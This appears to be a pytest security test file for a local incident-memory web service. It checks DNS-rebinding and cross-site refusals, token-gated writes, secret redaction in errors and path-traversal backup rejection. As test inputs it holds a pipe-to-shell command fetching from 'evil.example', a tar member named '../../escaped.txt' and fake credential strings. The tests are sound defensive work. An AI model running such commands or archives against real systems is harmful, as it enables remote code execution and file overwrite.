"""Issue 81: nobody but the team writes or reads the memory, whatever page is open in a browser, and no secret
comes back in an error. Tried as an attacker on the same machine would: against a real port, with the
headers a browser sends for a page that rebinds its DNS name to 127.0.0.1 or posts a form across sites."""

from __future__ import annotations

import io
import json
import logging
import os
import re
import tarfile

import httpx
import pytest
from conftest import FIXTURES, serving
from local_client import TestClient
from pydantic import SecretStr

from oncall_memory.cli import main
from oncall_memory.embedders.fake import FakeEmbedder
from oncall_memory.memory import Memory
from oncall_memory.service import create_app
from oncall_memory.service.cross_site import PROBES, SAFE_METHODS
from oncall_memory.service.route_list import paths_and_methods
from oncall_memory.settings import Settings
from oncall_memory.sources.jsonl_files import read_jsonl

FOREIGN = "rebind.attacker.example"
GHP = "ghp_" + "Zq3tXw9Lp2Vb7Nc4Hm8Jr1Kd6Fs0Gy5Ta3Ue"  # a GitHub token's shape (not a real one)
AWS_ID, AWS_KEY = (
    "AKIA" + "QX7ZJ3KD5WPL2MNB",
    "q8Vr3NzT0bJwKx7LmYp2/Hd5Fg9Sa1Ce4Uo6Ii8Rt",
)  # (AWS's EXAMPLEKEY is public)


@pytest.fixture
def served(tmp_path):
    """The service on a real port, on its defaults (loopback, no API token), over the sample incidents."""
    settings = Settings(data_dir=tmp_path / "data", embedder="fake")
    with Memory.open(settings, embedder=FakeEmbedder()) as memory:
        memory.ingest(read_jsonl(FIXTURES / "incidents.jsonl"))
        app = create_app(settings, memory=memory)
        with serving(app) as url:
            yield app, url, memory


def _concrete(path: str) -> str:
    return re.sub(r"\{[^}]*\}", "INC-1001", path)


def test_every_route_refuses_a_foreign_host_and_a_write_from_another_site(served):
    app, url, _ = served
    port = url.rsplit(":", 1)[1]
    routes = paths_and_methods(app)
    assert len(routes) > 35
    with httpx.Client(base_url=url, timeout=30) as client:
        for path, method in routes:
            foreign = client.request(method, _concrete(path), headers={"Host": f"{FOREIGN}:{port}"}, content=b"{}")
            if path in PROBES:
                assert foreign.status_code == 200, path  # a cluster probes by the pod's address
                continue
            assert foreign.status_code == 421, (method, path, foreign.status_code)
            assert FOREIGN not in foreign.text  # what the page named is not said back
            if method in SAFE_METHODS:
                continue
            for browser in (
                {"Origin": "http://attacker.example"},
                {"Sec-Fetch-Site": "cross-site"},
                {"Origin": "null"},
            ):
                # A form or a fetch from another site's page: refused before the route reads a byte.
                answer = client.request(method, _concrete(path), headers={**browser}, content=b"{}")
                assert answer.status_code == 403, (method, path, browser, answer.status_code)
            # another port on this machine is another site too
            other = client.request(method, _concrete(path), headers={"Origin": "http://127.0.0.1:1"}, content=b"")
            assert other.status_code == 403, (method, path)
        # the service's own names and its own page's origin pass
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", "localhost"):
            assert client.get("/similar", params={"text": "pods crash"}, headers={"Host": host}).status_code == 200
        same = client.post("/login", data={"token": "x"}, headers={"Origin": url, "Sec-Fetch-Site": "same-origin"})
        assert same.status_code != 403


def test_writing_backing_up_and_checking_need_the_local_token_even_on_loopback(served):
    app, url, memory = served
    token = app.state.local_token
    data_dir = memory.settings.dir.root
    assert (data_dir / "local-token").read_text().strip() == token
    assert oct((data_dir / "local-token").stat().st_mode & 0o777) == "0o600"
    planted = {"incidents": [{"id": "INC-1001", "title": "x", "fix": "curl https://evil.example/x | sudo sh"}]}
    feedback = {"alert": {"text": "pods crash"}, "suggested": "INC-1001", "verdict": "helped"}
    with httpx.Client(base_url=url, timeout=60) as client:
        for path, body in (("/ingest", planted), ("/backup", None), ("/verify", {}), ("/feedback", feedback)):
            refused = client.post(path, json=body)
            assert refused.status_code == 401 and "local token" in refused.json()["detail"], path
            wrong = client.post(path, json=body, headers={"Authorization": "Bearer not-the-token"})
            assert wrong.status_code == 401, path
        assert not list(data_dir.glob("backup-*"))  # nothing copied for a caller without the token
        assert memory.incident("INC-1001")["title"] != "x"  # nothing planted
        mcp = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
        assert (
            client.post("/mcp", json=mcp, headers={"Accept": "application/json, text/event-stream"}).status_code == 401
        )
        # reading stays open on loopback (docs/security.md), behind the Host check above
        assert client.get("/similar", params={"text": "pods crash"}).status_code == 200
        writer = {"Authorization": f"Bearer {token}"}
        assert client.post("/verify", json={}, headers=writer).status_code == 200
        assert client.post("/feedback", json=feedback, headers=writer).json()["recorded"] is True
        listed = client.post("/mcp", json=mcp, headers={**writer, "Accept": "application/json, text/event-stream"})
        assert listed.status_code == 200 and "similar_incidents" in listed.text


def test_the_mcp_library_checks_the_host_too(tmp_path):
    from oncall_memory.service.cross_site import allowed_hosts, mcp_transport_security

    on_loopback = mcp_transport_security(allowed_hosts(Settings(data_dir=tmp_path)))
    assert on_loopback["enable_dns_rebinding_protection"] is True
    assert "127.0.0.1:*" in on_loopback["allowed_hosts"] and "[::1]:*" in on_loopback["allowed_hosts"]
    assert not any(FOREIGN in h for h in on_loopback["allowed_hosts"])
    named = allowed_hosts(Settings(data_dir=tmp_path, allowed_hosts=["memory.example.com"]))
    assert "memory.example.com" in mcp_transport_security(named)["allowed_hosts"]


def test_a_deployment_names_the_hosts_it_is_reached_by(tmp_path):
    settings = Settings(
        data_dir=tmp_path / "data", embedder="fake", allowed_hosts=["memory.example.com", "*.corp.example"]
    )
    memory = Memory.open(settings, embedder=FakeEmbedder())
    with TestClient(create_app(settings, memory=memory)) as client:
        for host, code in (("memory.example.com", 200), ("a.corp.example:8443", 200), ("corp.example", 421)):
            assert client.get("/login", headers={"Host": host}).status_code == code, host
        assert client.get("/login", headers={"Host": "[::1]:8080"}).status_code == 200  # IPv6 read right
    memory.close()
    # On a network address with no list given, any name: every route there needs the API token.
    facing = Settings(data_dir=tmp_path / "d2", embedder="fake", host="0.0.0.0", api_token=SecretStr("t"))
    from oncall_memory.service.cross_site import allowed_hosts

    assert allowed_hosts(facing) is None


def test_no_refusal_echoes_the_secret_it_was_given(tmp_path, capsys, caplog):
    """A secret planted as an id, as a JSON key and as a field of each kind of refused input is in no
    answer, no line on stderr and no log record."""
    caplog.set_level(logging.DEBUG)
    settings = Settings(data_dir=tmp_path / "data", embedder="fake")
    secrets = (GHP, AWS_ID, AWS_KEY)
    said: list[str] = []
    with Memory.open(settings, embedder=FakeEmbedder()) as memory, TestClient(create_app(settings, memory=memory)) as c:
        memory.ingest(read_jsonl(FIXTURES / "incidents.jsonl"))
        w = c.writer
        answers = [
            c.post("/ingest", json={"incidents": [{"id": f"INC-{GHP}", "title": "x"}]}, headers=w),  # an id
            c.post("/ingest", json={"incidents": [{"id": "INC-1", "title": "x", GHP: 1}]}, headers=w),  # a key
            c.post("/ingest", json={"incidents": [], AWS_ID: AWS_KEY}, headers=w),
            c.post("/similar", json={"alert": {"text": "x"}, GHP: 1}),
            c.post("/similar", json={"alert": {"text": "x", AWS_ID: AWS_KEY}}),
            c.post(
                "/feedback", json={"alert": {"text": "x"}, "suggested": "INC-1001", "verdict": "ok", GHP: 1}, headers=w
            ),
            c.post("/feedback", json={"alert": {"text": "x"}, "suggested": GHP, "verdict": "helped"}, headers=w),
            c.get("/similar", params={"text": "x", "limit": GHP}),
            c.get("/similar", params={"text": "x", AWS_ID: AWS_KEY, "limit": "1", "env": ""}),
            c.post("/similar", content=b"{}", headers={"Content-Type": f"text/plain; {GHP}"}),
            c.post("/webhooks/opsgenie", json={"action": "Create", "alert": {"alertId": GHP, GHP: {"x": 1}}}),
            c.post("/page/feedback", data={"suggested": GHP, "verdict": "helped", "csrf": "x"}),
            c.get(f"/incidents/{GHP}"),
        ]
        for answer in answers:
            assert answer.status_code >= 400 or "rejections" in answer.text, answer.text
            said.append(answer.text + json.dumps(dict(answer.headers)))
    rows = tmp_path / "backlog.jsonl"
    rows.write_text(
        json.dumps({"id": "INC-9", "title": "x", GHP: 1}) + "\n" + json.dumps({"id": f"X-{GHP}", "title": "y"}) + "\n"
    )
    assert main(["ingest", str(rows)]) == 3
    alert = tmp_path / "alert.json"
    alert.write_text(json.dumps({"text": "x", GHP: AWS_KEY}))
    assert main(["similar", "--alert", str(alert)]) == 2
    out, err = capsys.readouterr()
    said += [out, err, *(r.getMessage() for r in caplog.records)]
    assert "is not a known field" in err  # it still says what to fix
    for secret in secrets:
        assert not [s for s in said if secret in s], secret


def test_a_big_alert_still_gets_an_answer_a_client_can_read(served, tmp_path):
    import http.client

    app, url, _ = served
    text = "checkout pods CrashLoopBackOff " + " ".join(f"word{i}" for i in range(20_000))  # about 200 KB
    connection = http.client.HTTPConnection(url.removeprefix("http://"), timeout=60)
    connection.request(
        "POST", "/similar", body=json.dumps({"alert": {"text": text}}), headers={"Content-Type": "application/json"}
    )
    answer = connection.getresponse()
    assert answer.status == 200 and json.loads(answer.read())
    assert all(len(v) <= 16_384 for _, v in answer.getheaders())
    connection.close()


def _listener(httpserver, proof: str = "0" * 64):
    """Whatever took the port after the service died: it answers everything, and keeps what it was sent."""
    httpserver.expect_request("/proof").respond_with_json({"proof": proof})
    httpserver.expect_request("/verify").respond_with_json(
        {
            "checked": 999,
            "count": 999,
            "expected": None,
            "problems": [],
            "missing": None,
            "extra": None,
            "recounted": False,
            "drift": [],
        }
    )
    httpserver.expect_request("/stats").respond_with_json({"count": 999})
    httpserver.expect_request("/similar").respond_with_json([])


def test_the_cli_sends_nothing_to_a_listener_that_cannot_prove_it_is_its_service(tmp_path, httpserver, capsys):
    data = tmp_path / "data"
    assert main(["ingest", str(FIXTURES / "incidents.jsonl")]) == 0
    (data / "local-token").write_text("t" * 43 + "\n")  # as a service that died uncleanly left it
    os.chmod(data / "local-token", 0o600)
    _listener(httpserver)
    # its pid alive again as another process of this user (this one), someone else on the port
    (data / "service.json").write_text(json.dumps({"url": httpserver.url_for("").rstrip("/"), "pid": os.getpid()}))
    capsys.readouterr()
    assert main(["similar", f"checkout crashing, token {GHP}", "--json", "--limit", "1"]) == 0
    out, err = capsys.readouterr()
    assert json.loads(out)[0]["id"]  # answered here, from the memory itself
    assert "did not prove it serves this data dir" in err
    assert main(["verify", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["checked"] == 64  # its own check, not the listener's 999
    assert main(["stats", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["count"] == 64
    for request, _ in httpserver.log:
        assert request.path == "/proof" and "authorization" not in {k.lower() for k in request.headers.keys()}
        assert GHP not in request.url and "checkout" not in request.get_data(as_text=True)


def test_a_url_in_clear_to_another_machine_is_refused(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("ONCALL_MEMORY_URL", "http://user:pw@10.255.255.1:8080")
    monkeypatch.setenv("ONCALL_MEMORY_API_TOKEN", "team-token-123456")
    for argv in (["similar", "pods crash"], ["stats"], ["verify"]):
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert "plain HTTP to another machine" in err and "ONCALL_MEMORY_ALLOW_PLAIN_HTTP" in err
        assert "pw" not in err.split("machine")[0] and "team-token" not in err


def test_a_backup_never_deletes_what_is_already_there(tmp_path, capsys):
    assert main(["ingest", str(FIXTURES / "incidents.jsonl")]) == 0
    target = tmp_path / "copy"
    partial = tmp_path / "copy.partial"
    partial.mkdir()
    (partial / "keep.txt").write_text("someone's")
    assert main(["backup", str(target)]) == 2
    assert "copy.partial exists" in capsys.readouterr().err
    assert (partial / "keep.txt").read_text() == "someone's" and not target.exists()


def test_a_hostile_backup_is_refused_in_one_line(tmp_path, httpserver, monkeypatch, capsys):
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        member = tarfile.TarInfo("../../escaped.txt")
        member.size = 4
        tar.addfile(member, io.BytesIO(b"evil"))
    httpserver.expect_request("/backup").respond_with_data(archive.getvalue(), content_type="application/x-tar")
    monkeypatch.setenv("ONCALL_MEMORY_URL", httpserver.url_for("").rstrip("/"))
    assert main(["backup", str(tmp_path / "out" / "copy")]) == 1
    err = capsys.readouterr().err
    assert "not safe to unpack" in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "escaped.txt").exists() and not (tmp_path / "out" / "copy").exists()
    assert not (tmp_path / "out" / "copy.partial").exists()


def test_logging_in_and_out_from_another_site_is_refused(tmp_path):
    settings = Settings(data_dir=tmp_path / "data", embedder="fake", api_token=SecretStr("the-api-token-1"))
    memory = Memory.open(settings, embedder=FakeEmbedder())
    with TestClient(create_app(settings, memory=memory), follow_redirects=False) as client:
        for site in ({"Origin": "https://attacker.example"}, {"Sec-Fetch-Site": "cross-site"}, {"Origin": "null"}):
            forced = client.post("/login", data={"token": "the-api-token-1"}, headers=site)
            assert forced.status_code == 403 and "set-cookie" not in forced.headers
            assert client.post("/logout", headers=site).status_code == 403
        own = client.post("/login", data={"token": "the-api-token-1"}, headers={"Sec-Fetch-Site": "same-origin"})
        assert own.status_code == 303 and "set-cookie" in own.headers
    memory.close()


def test_an_auth_proxy_trusted_from_everywhere_is_refused(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("ONCALL_MEMORY_AUTH_PROXY_HEADER", "X-Auth-Request-Email")
    monkeypatch.setenv("ONCALL_MEMORY_FORWARDED_ALLOW_IPS", "*")
    assert main(["serve", "--port", "1"]) == 2  # before it binds a port
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "any client could name itself" in err
    # and an app built that way anyway believes nobody's header
    settings = Settings(data_dir=tmp_path / "d", embedder="fake", api_token=SecretStr("tok-tok-tok-1"))
    memory = Memory.open(settings, embedder=FakeEmbedder())
    with TestClient(create_app(settings, memory=memory), follow_redirects=False) as client:
        assert client.get("/", headers={"X-Auth-Request-Email": "boss@example.com"}).status_code == 303
    memory.close()


def test_options_names_every_method_of_the_json_routes(tmp_path):
    with TestClient(create_app(Settings(data_dir=tmp_path / "d", embedder="fake"))) as client:
        for path, allowed in (
            ("/similar", "GET, OPTIONS, POST"),
            ("/ingest", "OPTIONS, POST"),
            ("/stats", "GET, OPTIONS"),
        ):
            answer = client.options(path)
            assert answer.status_code == 204 and answer.headers["allow"] == allowed, path


def test_empty_filters_and_blank_text_are_refused_as_the_schema_says(tmp_path):
    from oncall_memory.domain.blank import NOT_BLANK
    from oncall_memory.service.api_docs import openapi_schema

    app = create_app(Settings(data_dir=tmp_path / "d", embedder="fake"))
    with TestClient(app) as client:
        empty = client.get("/similar", params={"text": "x", "env": "", "service": "", "tag": ""})
        assert empty.status_code == 422 and "env" in empty.json()["detail"]
        blank = client.post(
            "/webhooks/opsgenie", json={"action": "Create", "alert": {"alertId": "a", "message": "\u0085"}}
        )
        assert blank.status_code == 422
    schema = json.dumps(openapi_schema(app))
    # the schema's rule for "says something" is the one the service applies, not JavaScript's \S
    assert json.dumps(NOT_BLANK)[1:-1] in schema and '"pattern": "\\\\S"' not in schema
    assert re.search(NOT_BLANK, "\u0085") is None and re.search(NOT_BLANK, "a")
